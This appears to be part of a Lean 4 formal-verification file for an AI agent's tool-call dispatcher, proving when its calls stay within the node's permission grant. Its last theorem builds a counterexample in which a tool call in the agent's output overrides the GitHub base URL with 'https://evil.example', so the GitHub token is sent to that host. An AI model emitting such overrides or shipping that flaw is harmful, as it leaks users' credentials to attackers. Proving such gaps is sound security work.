  obtain ⟨k, other, at', there', -, performs'⟩ := ran.called e mem
  obtain rfl : k = index := by omega
  rw [there] at there'
  obtain rfl := Option.some.inj there'
  rw [performs] at performs'
  cases performs'
  rfl

/-- What a run shows of a call that it would carry out. -/
theorem callWithin_of_grant {host : Host} {isUrl : String → Bool} {call : BridgeCall}
    {toolCall : ToolCall} (performs : attemptCall host isUrl payload call = .perform toolCall)
    (permitted : call.kind.name ∈ node.allow ↔ Allows node.allow toolCall)
    (kept : call.kind.name ∈ node.allow →
      SecretKept node githubApiBaseUrl loadSecretValue toolCall) :
    CallWithin node.allow githubApiBaseUrl toolCall := by
  obtain ⟨kind, action, rfl, -⟩ | ⟨kind, shell, rfl⟩ := attemptCall_perform performs
  · rw [kind] at permitted kept
    refine ⟨permitted, fun allowed secret => ?_⟩
    obtain ⟨value, is⟩ := Option.isSome_iff_exists.mp secret
    exact (kept allowed value is).1
  · rw [kind] at permitted
    exact permitted

theorem insideGrant_of_within {host : Host} {isUrl : String → Bool} {calls : List BridgeCall}
    {trace : List (Event CallOps)} {results : Option (List ToolResult)}
    (brings : Brings loadSecretValue node payload)
    (ran : LoopRan host isUrl payload calls 0 [] trace results)
    (within : ∀ call ∈ calls.take node.maxToolCalls, ∀ toolCall,
      attemptCall host isUrl payload call = .perform toolCall →
        CallWithin node.allow githubApiBaseUrl toolCall) :
    InsideGrant host isUrl node githubApiBaseUrl loadSecretValue payload calls trace results where
  bounded := by
    have bounded := ran.bounded
    rw [brings.maxToolCalls] at bounded
    exact bounded
  inOrder := ran.inOrder
  called e mem := by
    obtain ⟨call, -, there, -, performs⟩ := loopRan_event brings ran mem
    exact ⟨call, there, performs⟩
  permitted e mem := by
    obtain ⟨call, first, -, allowed, performs⟩ := loopRan_event brings ran mem
    exact (kind_of_within performs (within call first _ performs)).mp allowed
  executed finished index call toolCall there small performs permitted := by
    obtain ⟨bound, is⟩ := List.getElem?_eq_some_iff.mp there
    have first : call ∈ calls.take node.maxToolCalls :=
      List.mem_take_iff_getElem.mpr ⟨index, by omega, is⟩
    have allowed := (kind_of_within performs (within call first _ performs)).mpr permitted
    obtain ⟨e, mem, at_, -⟩ := exists_event brings ran finished there small allowed performs
    exact ⟨e, mem, at_⟩
  secrets e mem := by
    obtain ⟨call, first, -, allowed, performs⟩ := loopRan_event brings ran mem
    exact secretKept_of_within brings performs allowed (within call first _ performs)
  listed list is := by
    obtain ⟨new, rfl, same, among⟩ := ran.listed list is
    refine ⟨?_, among⟩
    rw [same, brings.maxToolCalls, Nat.sub_zero]
    congr 1
    exact List.filter_congr fun call _ => by rw [decide_eq_decide, brings.allow]

end dispatch

/-- A run keeps to the grant of its node exactly if the calls in the output, up to the limit, are
of an allowed kind when their tool is allowed, and name the base URL of the dispatch. -/
theorem inside_grant_iff (host : Host) (isUrl : String → Bool) (node : AgentRunNode)
    (githubApiBaseUrl : String) (ids : RunIds) (loadSecretValue : String → Option String)
    (timeoutMs : Nat) (payload : AgentRunPayload) (content : String)
    (resolved : resolveSecrets loadSecretValue timeoutMs (dispatchOf githubApiBaseUrl ids node) =
      some payload) :
    (∀ trace results, (toolResultsOf host isUrl payload content).Runs trace results →
      InsideGrant host isUrl node githubApiBaseUrl loadSecretValue payload
        (extractToolCalls host content) trace results) ↔
    ∀ call ∈ (extractToolCalls host content).take node.maxToolCalls, ∀ toolCall,
      attemptCall host isUrl payload call = .perform toolCall →
        CallWithin node.allow githubApiBaseUrl toolCall := by
  have brings := resolveSecrets_brings resolved
  constructor
  · intro inside call mem toolCall performs
    obtain ⟨trace, list, run⟩ :=
      runToolCalls_completes host isUrl payload (extractToolCalls host content)
    have grant := inside trace (some list) run
    have ran := runToolCalls_ran run
    obtain ⟨index, bound, is⟩ := List.mem_take_iff_getElem.mp mem
    have there := List.getElem?_eq_some_iff.mpr ⟨by omega, is⟩
    have small : index < node.maxToolCalls := by omega
    have carried (allowed : call.kind.name ∈ node.allow) : ∃ e ∈ trace, e.op.call = toolCall := by
      obtain ⟨e, mem, -, same⟩ :=
        exists_event brings ran (Option.some_ne_none list) there small allowed performs
      exact ⟨e, mem, same⟩
    have kept (allowed : call.kind.name ∈ node.allow) :
        SecretKept node githubApiBaseUrl loadSecretValue toolCall := by
      obtain ⟨e, mem, rfl⟩ := carried allowed
      exact grant.secrets e mem
    refine callWithin_of_grant performs ⟨fun allowed => ?_, fun permitted => ?_⟩ kept
    · obtain ⟨e, mem, rfl⟩ := carried allowed
      exact grant.permitted e mem
    · obtain ⟨e, mem, at_⟩ := grant.executed (Option.some_ne_none list) index call toolCall there
        small performs permitted
      obtain ⟨other, -, there', allowed, -⟩ := loopRan_event brings ran mem
      rw [at_, there] at there'
      obtain rfl := Option.some.inj there'
      exact allowed
  · intro within trace results run
    have ran := runToolCalls_ran run
    exact insideGrant_of_within brings ran within

/-- A host for an output with one call, which creates an issue with the given base URL. -/
def issueHost (env : List (String × Json)) : Host where
  stringify _ := ""
  parse _ := some (.arr [.obj [("kind", .str "connector.action"), ("payload", .obj
    ([("connectorId", .str "github"), ("actionId", .str "issue.create"),
      ("input", .obj [("repo", .str "org/repo"), ("title", .str "title")])] ++ env))]])
  slice text _ := text
  asText _ := ""
  isUuid _ := true
  validates _ _ := some true

def issueNode : AgentRunNode where
  allow := ["connector.action", "connector.github.issue.create"]
  connectors := [("github", "secret")]
  maxToolCalls := 1

def issuePayload : AgentRunPayload where
  allow := issueNode.allow
  maxToolCalls := 1
  ids := ⟨none, none, none⟩
  githubApiBaseUrl := "https://api.github.com"
  connectors := [("github", "token")]
  networkEnabled := false
  policyTimeoutMs := some 60000

def issueBlock : String := "```vespid_tool_calls\n[]\n```"

theorem issuePayload_resolved : resolveSecrets (fun _ => some "token") 60000
    (dispatchOf "https://api.github.com" ⟨none, none, none⟩ issueNode) = some issuePayload := by
  rfl

theorem extractToolCalls_issue (env : List (String × Json)) :
    extractToolCalls (issueHost env) issueBlock =
      [{ kind := .connectorAction
         payload := some (.obj ([("connectorId", .str "github"), ("actionId", .str "issue.create"),
           ("input", .obj [("repo", .str "org/repo"), ("title", .str "title")])] ++ env)) }] := by
  rfl

/-- A call that leaves the base URL out goes where the dispatch says, and takes its secret. -/
theorem inside_grant_iff_issue : resolveSecrets (fun _ => some "token") 60000
    (dispatchOf "https://api.github.com" ⟨none, none, none⟩ issueNode) = some issuePayload ∧
    ∀ trace results,
      (toolResultsOf (issueHost []) (fun _ => true) issuePayload issueBlock).Runs trace results →
        InsideGrant (issueHost []) (fun _ => true) issueNode "https://api.github.com"
          (fun _ => some "token") issuePayload (extractToolCalls (issueHost []) issueBlock) trace
          results := by
  refine ⟨issuePayload_resolved, (inside_grant_iff _ _ _ _ _ _ _ _ _ issuePayload_resolved).mpr ?_⟩
  intro call mem toolCall performs
  rw [extractToolCalls_issue] at mem
  obtain rfl := List.mem_singleton.mp (List.mem_of_mem_take mem)
  cases performs
  exact ⟨by decide, fun _ _ => rfl⟩

/-- The base URL of the call, written by the engine, is where its secret goes. -/
theorem secret_sent_elsewhere :
    ¬ ∀ (host : Host) (isUrl : String → Bool) (node : AgentRunNode) (githubApiBaseUrl : String)
      (ids : RunIds) (loadSecretValue : String → Option String) (timeoutMs : Nat)
      (payload : AgentRunPayload) (content : String),
      resolveSecrets loadSecretValue timeoutMs (dispatchOf githubApiBaseUrl ids node) =
        some payload →
      ∀ trace results, (toolResultsOf host isUrl payload content).Runs trace results →
        InsideGrant host isUrl node githubApiBaseUrl loadSecretValue payload
          (extractToolCalls host content) trace results := by
  intro inside
  let env := [("env", Json.obj [("githubApiBaseUrl", .str "https://evil.example")])]
  have run := Program.runs_with (I := CallOps) (fun _ => none)
    (toolResultsOf (issueHost env) (fun _ => true) issuePayload issueBlock)
  have grant := inside _ _ _ _ _ _ _ _ _ issuePayload_resolved _ _ run
  have carried : ∃ event ∈ (toolResultsOf (issueHost env) (fun _ => true) issuePayload
      issueBlock).traceWith (I := CallOps) fun _ => none, ∃ call, event.op.call = .action call ∧
        call.secret = some "token" ∧ call.githubApiBaseUrl = "https://evil.example" :=
    ⟨_, List.mem_of_getElem? (i := 0) rfl, _, rfl, rfl, rfl⟩
  obtain ⟨event, mem, call, is, secret, url⟩ := carried
  have kept := grant.secrets event mem
  rw [is] at kept
  have same := (kept "token" secret).1
  rw [url] at same
  exact absurd same (by decide)

end Vespid.NodeAgent.AgentRun
